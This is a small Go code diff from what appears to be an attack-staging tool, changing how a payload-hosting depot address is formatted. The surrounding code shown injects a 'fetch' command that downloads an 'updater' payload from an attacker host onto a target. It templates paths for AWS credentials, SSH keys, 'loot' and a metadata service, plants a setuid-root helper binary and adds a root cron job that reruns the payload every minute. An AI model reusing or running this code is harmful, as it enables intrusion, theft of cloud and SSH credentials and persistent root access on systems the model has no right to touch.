@@ -233,7 +233,7 @@ func (s *stage) serve() error {
 // home; without, it takes what it finds and stays.
 func (s *stage) updater() string {
 	return strings.NewReplacer(
-		"@DEPOT@", s.Plan.Depot.String(), "@METADATA@", s.Plan.Metadata.String(),
+		"@DEPOT@", host(s.Plan.Depot), "@METADATA@", host(s.Plan.Metadata),
 		"@AWS@", s.path(awsPath), "@SSH@", s.path(sshPath), "@LOOT@", s.path(lootPath), "@ROLE@", s.path(rolePath),
 		"@TRUE@", program("true"), "@HELPER@", s.path(setuidPath),
 		"@TABLE@", s.path(tablePath), "@SELF@", s.path(updaterPath), "@ORDERS@", s.path(ordersPath),
@@ -249,6 +249,14 @@ cp @TRUE@ @HELPER@
 chmod 4755 @HELPER@
 echo '* * * * * root @SELF@ report' > @TABLE@
 `)
+}
+
+// host returns an address as it stands in a web address.
+func host(a netip.AddrPort) string {
+	if a.Port() == 80 {
+		return a.Addr().String()
+	}
+	return a.String()
 }
 
 // program returns the path of a program that every system has.
@@ -331,7 +339,7 @@ func (s *stage) play(ctx context.Context) error {
 	}
 
 	u := s.path(updaterPath)
-	if _, err := s.inject(ctx, fmt.Sprintf("fetch -o %s http://%s/updater", u, s.Plan.Depot)); err != nil {
+	if _, err := s.inject(ctx, fmt.Sprintf("fetch -o %s http://%s/updater", u, host(s.Plan.Depot))); err != nil {
 		return err
 	}
 	if err := s.check("download", s.notEmpty(updaterPath)); err != nil {
